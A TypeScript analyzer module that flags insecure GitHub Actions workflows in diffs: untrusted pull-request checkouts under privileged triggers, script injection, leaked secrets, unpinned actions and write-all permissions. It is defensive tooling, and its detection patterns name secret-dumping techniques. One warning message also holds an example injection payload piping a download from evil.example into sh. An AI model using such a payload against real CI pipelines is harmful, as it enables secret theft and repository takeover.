/**
 * GitHub Actions workflows that hand the repository's secrets or write token to untrusted code:
 * `pull_request_target` (or comment-triggered) workflows that check out and run the pull
 * request's code, attacker-controlled text (`${{ github.event.issue.title }}`...) expanded into
 * shell scripts, secrets printed or dumped, third-party actions pinned to a movable tag or
 * branch, and `permissions: write-all`.
 *
 * Read line by line (the whole file when its content is known, else each hunk), with the
 * triggers taken from the parsed file when it parses. Only added lines are evidence.
 */
import { parseBoundedYaml, PREDICTOR_YAML_LIMITS } from "../yamlLimits.js";
import type { DiffFile, DiffLine, Prediction, Severity, SyncAnalyzer } from "../types.js";
import { contentOf, DiffIndex, indentOf, makePrediction, safely, snippet, textLines } from "./predict.js";

const WORKFLOW = /(?:^|\/)\.github\/workflows\/[^/]+\.ya?ml$/i;

/** Triggers where whoever opens the pull request, issue or comment is not trusted, and the run has secrets. */
const PRIVILEGED = new Set([
  "pull_request_target",
  "issue_comment",
  "issues",
  "discussion",
  "discussion_comment",
  "workflow_run",
  "pull_request_review_comment",
]);

/** A context an outside user controls: titles, bodies, branch names, commit messages, author names. */
const UNTRUSTED_CONTEXT =
  /\b(?:github\.event\.(?:issue\.(?:title|body)|pull_request\.(?:title|body|head\.ref|head\.label|head\.repo\.default_branch)|comment\.body|review\.body|review_comment\.body|pages\b[^}]*?\.page_name|commits\b[^}]*?\.(?:message|author\.(?:email|name))|head_commit\.(?:message|author\.(?:email|name))|discussion\.(?:title|body)|workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email|name))|pull_requests\b[^}]*?\.head\.ref))|github\.head_ref)\b|toJSON\(\s*github\.event\s*\)/;
/** `${{ ... }}` with an untrusted context that yields its text (not a comparison or a contains() test). */
function untrustedExpression(text: string): string | undefined {
  for (const m of text.matchAll(/\$\{\{([^}]*)\}\}/g)) {
    const expr = m[1];
    if (UNTRUSTED_CONTEXT.test(expr) && !/==|!=|\b(?:contains|startsWith|endsWith)\s*\(/.test(expr)) return m[0];
  }
  return undefined;
}

const PR_HEAD_REF =
  /github\.event\.pull_request\.head\.(?:sha|ref)|github\.head_ref|refs\/pull\/|github\.event\.pull_request\.merge_commit_sha|github\.event\.issue\.number|github\.event\.pull_request\.number|github\.event\.workflow_run\.head_(?:sha|branch)/;
const PR_HEAD_REPO = /repository\s*:\s*\$\{\{\s*github\.event\.pull_request\.head\.repo\.full_name\s*\}\}/;
const RUN_CHECKOUT =
  /\bgh\s+pr\s+checkout\b|\bgit\s+fetch\b[^\n]*\bpull\/[^\s]*\/head|\bgit\s+(?:checkout|switch)\b[^\n]*\$\{\{\s*github\.(?:event\.pull_request\.head\.(?:sha|ref)|head_ref)/;
const MAINTAINER_GATE = /author_association|github\.actor\s*==|\bpermission\b.*\b(?:admin|write|maintain)\b|\bcollaborators\b/;

const SECRET_EXPR = /\$\{\{\s*secrets\.[\w-]+\s*\}\}/;
const ALL_SECRETS = /\$\{\{\s*toJSON\(\s*secrets\s*\)\s*\}\}/i;
const PRINT = /(?:^|[\s;&|(])(?:echo|printf|print|cat|Write-Host|Write-Output|console\.log|puts)\b/;
const STDIN_CONSUMER =
  /\|\s*(?:[\w./-]+\s+)*?(?:[\w.-]*login\b|gh\s+auth|[\w.-]+\s+--?[\w-]*stdin\b|gpg\b|ssh-add\b|base64\s+(?:-d|--decode|-D)\b|openssl\b|kubectl\b|docker\b|helm\b|npm\b|tee\s+[^|]*\.(?:pem|key|json|npmrc|netrc))|--password-stdin|--with-token/;
const MASK_BYPASS = /\|\s*(?:base64(?!\s+(?:-d|--decode|-D)\b)|xxd|od\b|hexdump|rev\b|sed\b|tr\b|awk\b|cut\b)/;
/** Written to the runner's own files for later steps ($GITHUB_ENV...): not printed. */
const TO_RUNNER_FILES = />>?\s*"?\$\{?GITHUB_(?:ENV|OUTPUT|PATH)\b/;
const REDIRECT = /(?<![<>&\d])>{1,2}\s*(?!\s*&|\s*\/dev\/null|\s*"?\$GITHUB_(?:ENV|OUTPUT|STEP_SUMMARY|PATH)\b)\S+/;

const USES = /^\s*(?:-\s+)?uses\s*:\s*["']?([^\s"'#]+)["']?/;
const FULL_SHA = /^[0-9a-f]{40}$/i;
const BRANCH_REF = /^(?:main|master|dev|develop|development|trunk|latest|head|stable|release|edge|nightly)$/i;

interface View {
  lines: string[];
  /** The added diff line shown at index `i`, if it is one. */
  added(i: number): DiffLine | undefined;
}

function views(file: DiffFile, content: string | undefined): View[] {
  if (content !== undefined) {
    const whole = textLines(content);
    const agrees = file.hunks.every((h) => h.lines.every((l) => l.kind === "del" || whole[(l.newLine ?? 0) - 1] === l.content));
    if (agrees) {
      const index = new DiffIndex(file);
      return [{ lines: whole, added: (i) => index.changed("new", i + 1) }];
    }
  }
  return file.hunks.map((h) => {
    const side = h.lines.filter((l) => l.kind !== "del");
    return { lines: side.map((l) => l.content), added: (i) => (side[i]?.kind === "add" ? side[i] : undefined) };
  });
}

/** The workflow's triggers, from the parsed file, else from what lines are in view. */
function triggersOf(content: string | undefined, visible: string[]): Set<string> {
  const out = new Set<string>();
  if (content !== undefined) {
    try {
      // Bounded: an alias bomb or an oversized file throws, and the lines below are used.
      const doc = parseBoundedYaml(content, PREDICTOR_YAML_LIMITS, { uniqueKeys: false }) as Record<string, unknown> | null;
      const on = doc && typeof doc === "object" ? (doc.on ?? doc.true) : undefined;
      if (typeof on === "string") out.add(on);
      else if (Array.isArray(on)) {
        for (const t of on) if (typeof t === "string") out.add(t);
      } else if (on && typeof on === "object") {
        for (const t of Object.keys(on)) out.add(t);
      }
      if (out.size > 0) return out;
    } catch {
      /* fall back to the lines */
    }
  }
  for (const line of visible) {
    const inline = /^\s*["']?on["']?\s*:\s*(.+)$/.exec(line);
    if (inline) for (const t of inline[1].replace(/#.*$/, "").match(/[a-z_]+/g) ?? []) out.add(t);
    const key = /^\s*-?\s*([a-z_]+)\s*:?\s*(?:#.*)?$/.exec(line);
    if (
      key &&
      /^(?:pull_request_target|pull_request|push|issue_comment|issues|discussion|discussion_comment|workflow_run|workflow_dispatch|schedule|release|pull_request_review_comment|pull_request_review)$/.test(
        key[1],
      )
    )
      out.add(key[1]);
  }
  return out;
}

/** The key whose block scalar (`run: |`) or value holds line `i`: `run`, `script`, `env`... */
function owningKey(lines: readonly string[], i: number): { key: string; line: number } | undefined {
  const self = /^\s*(?:-\s+)?([\w-]+)\s*:(?:\s|$)/.exec(lines[i]);
  if (self) return { key: self[1], line: i };
  const own = indentOf(lines[i]);
  for (let j = i - 1; j >= 0 && j >= i - 400; j--) {
    const t = lines[j];
    if (t.trim() === "") continue;
    if (indentOf(t) < own) {
      const m = /^\s*(?:-\s+)?([\w-]+)\s*:\s*(?:[|>][+-]?\d*\s*)?(?:#.*)?$/.exec(t) ?? /^\s*(?:-\s+)?([\w-]+)\s*:/.exec(t);
      return m ? { key: m[1], line: j } : undefined;
    }
  }
  return undefined;
}

/** Whether line `i` is (part of) a shell script or a github-script body. */
function inScript(lines: readonly string[], i: number): boolean {
  const k = owningKey(lines, i);
  return k !== undefined && (k.key === "run" || k.key === "script");
}

/** Lines of the step holding line `i`: from its `- ` line to the next step. */
function stepRange(lines: readonly string[], i: number): [number, number] {
  let start = i;
  for (let j = i; j >= 0 && j >= i - 200; j--) {
    if (/^\s*-\s+\S/.test(lines[j]) && indentOf(lines[j]) < indentOf(lines[i]) + (j === i ? 1 : 0)) {
      start = j;
      break;
    }
  }
  const ind = indentOf(lines[start]);
  let end = start;
  for (let j = start + 1; j < lines.length; j++) {
    const t = lines[j];
    if (t.trim() === "") continue;
    if (indentOf(t) <= ind) break;
    end = j;
  }
  return [start, end];
}

interface Hit {
  kind: string;
  at: DiffLine;
  prediction: string;
  confidence: number;
  severity: Severity;
  impact: string;
  recommendation: string;
  tags: string[];
}

function checkView(view: View, triggers: Set<string>, fileText: string, previouslyUnpinned: Set<string>, hits: Hit[]): void {
  const { lines } = view;
  const privileged = [...triggers].filter((t) => PRIVILEGED.has(t));
  const prTarget = triggers.has("pull_request_target");
  const commentTriggered = triggers.has("issue_comment") || triggers.has("workflow_run");
  const gated = MAINTAINER_GATE.test(fileText);
  const reportedSteps = new Set<number>();
  const reportedActions = new Set<string>();

  for (let i = 0; i < lines.length; i++) {
    const text = lines[i];
    if (/^\s*#/.test(text)) continue;
    const added = view.added(i);

    // 1. pull_request_target / comment-triggered workflow checking out the pull request's code
    if ((prTarget || commentTriggered) && (PR_HEAD_REF.test(text) || PR_HEAD_REPO.test(text) || RUN_CHECKOUT.test(text))) {
      const isRef = /^\s*(?:ref|repository)\s*:/.test(text);
      const [s, e] = stepRange(lines, i);
      const step = lines.slice(s, e + 1).join("\n");
      const checkout = isRef ? /uses\s*:\s*["']?actions\/checkout@/.test(step) : RUN_CHECKOUT.test(text) && inScript(lines, i);
      const triggerLine = lines.findIndex(
        (l) => /\bpull_request_target\b|\bissue_comment\b|\bworkflow_run\b/.test(l) && !/\bif\s*:|github\.event_name/.test(l),
      );
      const at = added ?? (triggerLine >= 0 ? view.added(triggerLine) : undefined);
      if (checkout && at && !reportedSteps.has(s) && !(gated && !prTarget)) {
        reportedSteps.add(s);
        // Anything executed after the checkout runs the attacker's code (scripts, builds, installs).
        const after = lines.slice(e + 1).some((l) => /^\s*(?:-\s+)?(?:run|uses)\s*:/.test(l) && !/actions\/checkout@/.test(l));
        const labelGate = /\bif\s*:.*(?:labels|label\.name)/.test(fileText) || /^\s*environment\s*:/m.test(fileText);
        const confidence = !after ? 0.7 : labelGate || gated ? 0.75 : 0.9;
        hits.push({
          kind: "ci-untrusted-checkout",
          at,
          prediction:
            `This ${prTarget ? "`pull_request_target`" : privileged.length > 0 ? `\`${privileged[0]}\`` : ""} workflow checks out the pull request's own code (\`${snippet(text)}\`) and ${after ? "then runs it" : "keeps it in the workspace"} with the base repository's secrets and a write-scoped \`GITHUB_TOKEN\`: anyone who opens a pull request from a fork can change a build script or dependency to steal the secrets and push to the repository.`.replace(
              "This  workflow",
              "This workflow",
            ),
          confidence,
          severity: "critical",
          impact: "Secrets exfiltrated and the repository (code, releases, packages) compromised by any outside contributor.",
          recommendation:
            "Use the `pull_request` trigger to build untrusted code (no secrets, read-only token); if a privileged step is needed, split it into a `workflow_run` workflow that only consumes artifacts, never checks out or executes the pull request's code, and treats artifacts as untrusted data.",
          tags: ["ci", "security", "secrets"],
        });
      }
    }

    if (!added) continue;

    // 2. Untrusted text expanded into a script
    const injected = untrustedExpression(text);
    if (injected && inScript(lines, i)) {
      const critical = privileged.length > 0;
      hits.push({
        kind: "ci-script-injection",
        at: added,
        prediction: `\`${injected}\` is expanded into a ${owningKey(lines, i)?.key === "script" ? "github-script body" : "shell script"} before it runs: a pull request title, branch name, issue or comment such as \`"; curl https://evil.example/x | sh; #\` executes as code in the runner${critical ? ", which has this repository's secrets and a write token" : ""}.`,
        confidence: 0.85,
        severity: critical ? "critical" : "high",
        impact: critical
          ? "Any GitHub user can run code with the repository's secrets and write access."
          : "Anyone who can open a pull request or issue can run code in CI.",
        recommendation:
          'Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) and use it quoted in the script (`"$TITLE"`); never put `${{ ... }}` of user-controlled text inside `run:`.',
        tags: ["ci", "security", "injection"],
      });
      continue;
    }

    // 3. Secrets printed or dumped
    if (ALL_SECRETS.test(text)) {
      hits.push({
        kind: "ci-secret-leak",
        at: added,
        prediction:
          "`toJSON(secrets)` dumps every secret of the repository into the step (and its log or environment): one leaked log or compromised action exposes all of them at once.",
        confidence: 0.9,
        severity: "critical",
        impact: "Every repository and organisation secret available to the workflow exposed.",
        recommendation: "Pass only the secrets a step needs, one by one, through `env:`.",
        tags: ["ci", "security", "secrets"],
      });
      continue;
    }
    if (
      SECRET_EXPR.test(text) &&
      inScript(lines, i) &&
      PRINT.test(text) &&
      !STDIN_CONSUMER.test(text) &&
      !/::add-mask::/.test(text) &&
      !TO_RUNNER_FILES.test(text)
    ) {
      const bypass = MASK_BYPASS.test(text);
      const toFile = REDIRECT.test(text) && !/GITHUB_STEP_SUMMARY/.test(text);
      if (toFile && !bypass && !/actions\/upload-artifact@/.test(fileText)) continue; // written to a file that stays on the runner
      hits.push({
        kind: "ci-secret-leak",
        at: added,
        prediction: bypass
          ? `A secret is printed through a transformation (\`${snippet(text)}\`): GitHub only masks the secret's exact value, so the encoded form appears in clear in the log, readable by anyone who can see the run.`
          : toFile
            ? `A secret is written to a file (\`${snippet(text)}\`) that this workflow uploads as an artifact: anyone with read access to the repository can download it.`
            : `A secret is printed to the log (\`${snippet(text)}\`): GitHub masks exact matches only, so multi-line, structured or partially printed values leak, and the secret also lands in the script file on the runner.`,
        confidence: bypass ? 0.85 : toFile ? 0.75 : 0.65,
        severity: bypass ? "critical" : "high",
        impact: "The secret readable in logs or artifacts by everyone who can see the workflow run.",
        recommendation:
          "Never print secrets: pass them through `env:` to the command that needs them, and mask derived values with `::add-mask::`.",
        tags: ["ci", "security", "secrets"],
      });
      continue;
    }

    // 4. Actions not pinned to a commit
    const uses = USES.exec(text);
    if (uses && !uses[1].startsWith("./") && !uses[1].startsWith("docker://")) {
      const [target, ref] = uses[1].split("@");
      const owner = target.split("/")[0].toLowerCase();
      if (!ref || !FULL_SHA.test(ref)) {
        if (previouslyUnpinned.has(target.toLowerCase()) || reportedActions.has(target.toLowerCase())) continue; // a version bump, or said once already
        reportedActions.add(target.toLowerCase());
        const firstParty = owner === "actions" || owner === "github";
        const branch = !ref || BRANCH_REF.test(ref);
        hits.push({
          kind: "ci-unpinned-action",
          at: added,
          prediction: firstParty
            ? `\`${uses[1]}\` is pinned to a ${branch ? "branch" : "tag"}, not a commit: GitHub's own actions are lower risk, but the code that runs can still change without a change here.`
            : `The third-party action \`${uses[1]}\` is pinned to a ${branch ? "branch" : "tag"}, not a commit SHA: whoever controls \`${owner}\` (or compromises it, as with tj-actions/changed-files) can move it and run new code in this workflow, with its secrets and token.`,
          confidence: firstParty ? 0.4 : branch ? 0.75 : 0.65,
          severity: firstParty ? "low" : "medium",
          impact: "A supply-chain compromise of the action runs attacker code with this workflow's secrets and permissions.",
          recommendation: `Pin it to a full commit SHA with the version as a comment (\`uses: ${target}@<40-char sha> # ${ref ?? "vX.Y.Z"}\`) and let Dependabot or Renovate update it.`,
          tags: ["ci", "security", "supply-chain"],
        });
      }
      continue;
    }

    // 5. write-all
    if (/^\s*permissions\s*:\s*["']?write-all["']?\s*(?:#.*)?$/.test(text)) {
      hits.push({
        kind: "ci-excessive-permissions",
        at: added,
        prediction: `\`permissions: write-all\` gives every step write access to the repository's code, releases, packages, issues and settings${privileged.length > 0 ? `, in a workflow triggered by \`${privileged[0]}\`` : ""}: any compromised action or injected script can push code or publish packages.`,
        confidence: privileged.length > 0 ? 0.8 : 0.7,
        severity: privileged.length > 0 ? "high" : "medium",
        impact: "A compromised step can tamper with the repository and its releases.",
        recommendation:
          "Grant only what the jobs need (e.g. `permissions: contents: read`, plus `pull-requests: write` on the one job that comments).",
        tags: ["ci", "security"],
      });
    }
  }
}

export const workflowsPredictor: SyncAnalyzer = {
  name: "workflows",
  analyze(input) {
    const predictions: Prediction[] = [];
    for (const file of input.files) {
      if (file.binary || file.hunks.length === 0 || !WORKFLOW.test(file.path)) continue;
      safely(() => {
        const content = contentOf(input, file.path);
        const vs = views(file, content);
        const visible = vs.flatMap((v) => v.lines);
        const triggers = triggersOf(content, visible);
        const fileText = content ?? visible.join("\n");
        const previouslyUnpinned = new Set<string>();
        for (const h of file.hunks)
          for (const l of h.lines) {
            const u = l.kind === "del" ? USES.exec(l.content) : null;
            if (u && !FULL_SHA.test(u[1].split("@")[1] ?? "")) previouslyUnpinned.add(u[1].split("@")[0].toLowerCase());
          }
        const hits: Hit[] = [];
        for (const v of vs) checkView(v, triggers, fileText, previouslyUnpinned, hits);
        const seen = new Set<string>();
        for (const h of hits) {
          const key = `${h.kind}:${h.at.newLine}`;
          if (seen.has(key)) continue;
          seen.add(key);
          predictions.push(makePrediction({ ...h, path: file.path }));
        }
      });
    }
    return { findings: [], predictions };
  },
};
